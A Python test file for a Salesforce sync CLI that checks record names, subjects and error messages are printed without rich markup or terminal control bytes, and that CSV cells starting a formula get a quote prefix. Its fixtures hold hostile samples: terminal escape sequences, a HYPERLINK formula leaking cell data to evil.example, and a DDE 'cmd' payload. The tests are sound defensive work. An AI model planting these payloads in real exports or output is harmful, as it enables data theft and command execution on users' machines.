"""Record values are printed as text: no rich markup, no terminal control characters.

Opportunity names, owner names, Task subjects and Salesforce's error messages are
data anyone with a Salesforce login can set. On a terminal they must not be read
as rich markup (``[/bold]`` used to crash ``sfsync findings`` with exit 70) and no
escape sequence in them may reach the terminal (``ESC ] 0;title BEL`` retitles
the window, ``ESC [2J`` clears it, ``0x9b`` is the 8-bit CSI), on a terminal or
in a pipe. CSV cells that a spreadsheet would run as a formula get a ``'``.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from typing import Any

import pytest

from sfsync import console
from sfsync.audit import FindingRecord
from sfsync.errors import ApiError
from sfsync.writeback import LedgerView, PlannedAction, RecordFailure, WritebackPlan
from sfsync.writeback import WritebackResult as Result
from tests.cli_helpers import run_cli

EVIL = (
    "Deal [/bold] closing tag",
    "[red]x[/red]",
    "\x1b]0;pwned\x07",
    "\x1b[2J",
    "before\rafter",
    "\x9b31mC1 CSI",
    "emoji :thumbs_up: code",
)
# Markup that must survive verbatim; the rest must lose its control bytes.
LITERAL = ("Deal [/bold] closing tag", "[red]x[/red]", "emoji :thumbs_up: code", "]0;pwned")
SGR = re.compile(r"\x1b\[[0-9;]*m")  # rich's own colours on a terminal
FORBIDDEN = ("\x1b", "\x07", "\x9b", "\r", "\x00", "\x7f")


class TtyStream(io.StringIO):
    """A stream that says it is a terminal (rich then renders a table with styles)."""

    def isatty(self) -> bool:
        return True


def assert_safe(text: str) -> None:
    """No control byte apart from newlines (and, on a terminal, rich's SGR colours)."""
    bare = SGR.sub("", text)
    for byte in FORBIDDEN:
        assert byte not in bare, (byte, bare)
    assert not [c for c in bare if c != "\n" and (ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0)]


def assert_literal(text: str, *values: str) -> None:
    bare = SGR.sub("", text)
    for value in values:
        assert value in bare, (value, bare)


@pytest.fixture
def wide(monkeypatch: pytest.MonkeyPatch) -> None:
    """A wide terminal, so rich does not wrap a cell in the middle of a value."""
    monkeypatch.setenv("COLUMNS", "400")


# --------------------------------------------------------------------------- printable


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("Deal [/bold] closing tag", "Deal [/bold] closing tag"),
        ("[red]x[/red]", "[red]x[/red]"),
        ("\x1b]0;pwned\x07", "\ufffd]0;pwned\ufffd"),
        ("\x1b[2J", "\ufffd[2J"),
        ("\x9b31m", "\ufffd31m"),
        ("a\rb", "a b"),
        ("line one\r\nline two\nthree\tfour", "line one line two three four"),
        ("nul\x00 del\x7f", "nul\ufffd del\ufffd"),
        ("  two  spaces  ", "  two  spaces  "),
        ("Z\u00fcrich \u2013 \u6771\u4eac", "Z\u00fcrich \u2013 \u6771\u4eac"),
        (None, ""),
        (1234, "1234"),
        (2.5, "2.5"),
    ],
)
def test_printable_keeps_text_and_makes_control_characters_visible(value: Any, shown: str) -> None:
    assert console.printable(value) == shown


def test_printable_can_keep_line_breaks_for_paragraphs() -> None:
    assert (
        console.printable("one\r\ntwo\x1b[2J\nthree", newlines=True) == "one\ntwo\ufffd[2J\nthree"
    )


# --------------------------------------------------------------------------- print_table


@pytest.mark.parametrize("stream_type", [io.StringIO, TtyStream], ids=["plain", "tty"])
def test_print_table_prints_record_values_as_text(
    stream_type: type[io.StringIO], wide: None
) -> None:
    out = stream_type()
    console.print_table(
        "names [bold]like[/bold] \x1b]0;title\x07",
        ["name", "n"],
        [[name, index] for index, name in enumerate(EVIL)],
        stream=out,
    )
    text = out.getvalue()
    assert_safe(text)
    assert_literal(text, *LITERAL, "names [bold]like[/bold]", "[2J", "31mC1 CSI", "before after")
    assert "👍" not in text


@pytest.mark.parametrize("stream_type", [io.StringIO, TtyStream], ids=["plain", "tty"])
def test_print_table_without_a_title_prints_no_title_line(
    stream_type: type[io.StringIO], wide: None
) -> None:
    out = stream_type()
    console.print_table(None, ["rule", "open"], [["close_date_past", 4]], stream=out)
    lines = [line for line in SGR.sub("", out.getvalue()).splitlines() if line.strip()]
    assert "rule" in lines[0] or "rule" in lines[1]  # the header (under rich's top border)
    assert "None" not in out.getvalue()


def test_print_table_plain_is_aligned_text() -> None:
    out = io.StringIO()
    console.print_table("t", ["a", "bb"], [["x\ty", None], ["long value", 12]], stream=out)
    assert out.getvalue().splitlines() == [
        "t",
        "a           bb",
        "x y",
        "long value  12",
    ]


def test_a_colour_terminal_shows_the_brackets(wide: None, monkeypatch: pytest.MonkeyPatch) -> None:
    """The same with rich rendering colours and styles (it sees a terminal too)."""
    monkeypatch.setenv("TERM", "xterm-256color")
    monkeypatch.delenv("NO_COLOR", raising=False)
    out = TtyStream()
    console.print_table("[i]t[/i]", ["name"], [[name] for name in EVIL], stream=out)
    assert "\x1b[" in out.getvalue()  # it did render with styles
    assert_safe(out.getvalue())
    assert_literal(out.getvalue(), "[i]t[/i]", *LITERAL)


# --------------------------------------------------------------------------- csv_safe


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tleading tab", "'\tleading tab"),
        ("\rleading CR", "'\rleading CR"),
        ("Acme - renewal = 2", "Acme - renewal = 2"),
        ('{"a": "=1"}', '{"a": "=1"}'),
        ("", ""),
        (-2, -2),
        (3.5, 3.5),
        (-0.5, -0.5),
    ],
)
def test_csv_safe_prefixes_formula_starts_and_leaves_numbers(value: Any, written: Any) -> None:
    assert console.csv_safe(value) == written


FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\tTab first",
    "\rCR first",
)
NOT_FORMULAS = ("Plain name", "carriage\rreturn inside", "two\r\nlines")


def finding(number: int, name: str | None, details: dict[str, Any]) -> FindingRecord:
    return FindingRecord(
        id=number,
        rule="close_date_past",
        opportunity_id=f"0060000000000{number:02d}AAA",
        opportunity_name=name,
        owner_id="-005000000000001AAA",
        owner_name=name,
        stage=name,
        status="open",
        profile="global",
        severity="error",
        opened_at=datetime(2024, 8, 15, 3, 0, tzinfo=UTC),
        resolved_at=None,
        details=details,
    )


def test_findings_csv_neutralises_every_formula_cell(capsys: pytest.CaptureFixture[str]) -> None:
    """Names, owner names, stages and the rule's text values: a formula start gets a ``'``;
    numbers stay numbers (``k`` = -1 is -1, not text)."""
    from sfsync.audit import finding_columns
    from sfsync.cli.findings import emit_findings

    findings = [
        finding(n, name, {"k": -1, "stage": name, "currency": name, "amount": -5.5})
        for n, name in enumerate(FORMULAS)
    ]
    findings += [finding(90 + n, name, {}) for n, name in enumerate(NOT_FORMULAS)]
    findings.append(finding(99, None, {}))
    emit_findings(findings, "csv", rules=["close_date_past"])
    written = capsys.readouterr().out
    header = [c.name for c in finding_columns(["close_date_past"])]
    assert written.startswith(",".join(header) + "\n")  # LF line ends, as before
    rows = list(csv.DictReader(io.StringIO(written, newline="")))
    assert list(rows[0]) == header
    expected = [f"'{name}" for name in FORMULAS] + [*NOT_FORMULAS, ""]
    for column in ("opportunity_name", "owner_name", "stage"):
        assert [row[column] for row in rows] == expected, column
    assert [row["close_date_past.stage"] for row in rows[: len(FORMULAS)]] == expected[:6]
    assert [row["currency"] for row in rows[: len(FORMULAS)]] == expected[:6]
    assert {row["owner_id"] for row in rows} == {"'-005000000000001AAA"}
    assert {row["k"] for row in rows[: len(FORMULAS)]} == {"-1"}
    assert {row["close_date_past.amount"] for row in rows[: len(FORMULAS)]} == {"-5.5"}
    numbers = ("k", "close_date_past.amount")
    for row in rows:
        for column, cell in row.items():
            if column in numbers and cell:
                float(cell)  # a number: a spreadsheet reads it as one, never as a formula
                continue
            assert not cell or cell[0] not in "=+-@\t\r", (column, row)


# --------------------------------------------------------------------------- writeback output


def evil_result() -> Result:
    today = date(2024, 8, 15)
    opp = "006000000000001AAA"
    actions = (
        PlannedAction(
            action="create_task",
            opportunity_id=opp,
            rule="close_date_past",
            opportunity_name=EVIL[0],
            subject="Fix: " + EVIL[1] + " " + EVIL[2],
            reason=EVIL[3] + " " + EVIL[0],
            reassigned_reason=EVIL[5],
            owner_id="005000000000001AAA",
            original_owner_id="005000000000002AAA",
            due_date=today,
        ),
        PlannedAction(
            action="skip",
            opportunity_id=opp,
            rule="stale_last_modified",
            skip_code="no_owner",
            reason=EVIL[4] + " " + EVIL[6],
        ),
    )
    failures = (
        LedgerView(
            id=1,
            key="k1",
            action="create_task",
            state="failed",
            rule="close_date_past",
            opportunity_id=opp,
            finding_id=1,
            attempts=2,
            error_code="FIELD_CUSTOM_VALIDATION_EXCEPTION",
            error_message="Salesforce says " + EVIL[0] + EVIL[2],
        ),
    )
    return Result(
        plan=WritebackPlan(today=today, actions=actions, failures=failures),
        applied=True,
        status="partial",
        run_id=7,
        mode="upsert",
        failures=[
            RecordFailure(
                key="k2",
                action="create_task",
                rule="close_date_past",
                opportunity_id=opp,
                code="INVALID_CROSS_REFERENCE_KEY",
                message=EVIL[1] + " " + EVIL[3] + " " + EVIL[5],
                outcome="retry",
                attempts=1,
            )
        ],
        reassignments=[
            {
                "opportunity_id": opp,
                "rule": "close_date_past",
                "owner_id": "005000000000003AAA",
                "original_owner_id": "005000000000001AAA",
                "reason": "inactive " + EVIL[0] + EVIL[3],
            }
        ],
        warnings=["Task.Key__c " + EVIL[2] + EVIL[1]],
    )


class _NoWarehouse:
    def dispose(self) -> None:
        pass


@pytest.fixture
def writeback_returns(monkeypatch: pytest.MonkeyPatch) -> None:
    import sfsync.context
    import sfsync.writeback

    monkeypatch.setattr(sfsync.context, "open_warehouse", lambda *a, **k: _NoWarehouse())
    monkeypatch.setattr(sfsync.writeback, "run", lambda *a, **k: evil_result())


@pytest.fixture
def terminal(monkeypatch: pytest.MonkeyPatch, wide: None) -> None:
    """CliRunner's stdout and stderr claim to be a terminal."""
    import click.testing

    monkeypatch.setattr(click.testing._NamedTextIOWrapper, "isatty", lambda self: True)


@pytest.mark.parametrize("on_terminal", [False, True], ids=["plain", "tty"])
def test_writeback_prints_names_subjects_reasons_and_errors_as_text(
    writeback_returns: None, request: pytest.FixtureRequest, on_terminal: bool, wide: None
) -> None:
    if on_terminal:
        request.getfixturevalue("terminal")
    outcome = run_cli("--log-format", "json", "writeback", "--show-skipped")
    assert outcome.exit_code == 5, outcome.output  # some writes failed: PartialFailure
    assert_safe(outcome.stdout)
    assert_safe(outcome.stderr)
    assert_literal(outcome.stdout, "Deal [/bold] closing tag", "[red]x[/red]", "]0;pwned", "[2J")
    assert_literal(outcome.stdout, "Salesforce says Deal [/bold] closing tag", "before after")
    assert_literal(outcome.stderr, "warning: Task.Key__c")


def test_error_paragraph_from_salesforce_is_printed_without_control_characters(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import sfsync.context
    import sfsync.writeback

    def refuse(*args: Any, **kwargs: Any) -> Result:
        raise ApiError("Salesforce: " + EVIL[2] + EVIL[3] + "\nsecond line [/bold]" + EVIL[5])

    monkeypatch.setattr(sfsync.context, "open_warehouse", lambda *a, **k: _NoWarehouse())
    monkeypatch.setattr(sfsync.writeback, "run", refuse)
    outcome = run_cli("--log-format", "console", "writeback")
    assert outcome.exit_code != 0
    human = outcome.stderr[outcome.stderr.index("error: ") :].splitlines()  # log lines aside
    assert human[0].startswith("error: Salesforce: "), human
    assert human[1].startswith("second line [/bold]"), human  # the paragraph keeps its lines
    assert_safe("\n".join(human))


def test_long_skip_reasons_wrap_on_a_terminal_and_are_whole_in_plain_output(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """`writeback --show-skipped` cut the fix hint off ("... is i..."): it must wrap."""
    import click.testing

    import sfsync.context
    import sfsync.writeback

    hint = (
        "writeback.fallback_owner_id 005000000000009AAA does not exist: set it to an active "
        "user (sfsync check names the users it can assign to) and run the write-back again"
    )
    today = date(2024, 8, 15)
    plan = WritebackPlan(
        today=today,
        actions=(
            PlannedAction(
                action="skip",
                opportunity_id="006000000000001AAA",
                rule="close_date_past",
                skip_code="no_active_owner",
                reason=hint,
            ),
        ),
    )
    monkeypatch.setattr(sfsync.context, "open_warehouse", lambda *a, **k: _NoWarehouse())
    monkeypatch.setattr(sfsync.writeback, "run", lambda *a, **k: Result(plan=plan, applied=False))
    plain = run_cli("writeback", "--show-skipped")
    assert hint in plain.stdout
    monkeypatch.setattr(click.testing._NamedTextIOWrapper, "isatty", lambda self: True)
    monkeypatch.setenv("COLUMNS", "100")
    boxed = run_cli("writeback", "--show-skipped")
    words = " ".join(re.sub(r"[│┃|]", " ", boxed.stdout).split())
    assert "run the write-back again" in words
    assert "…" not in boxed.stdout
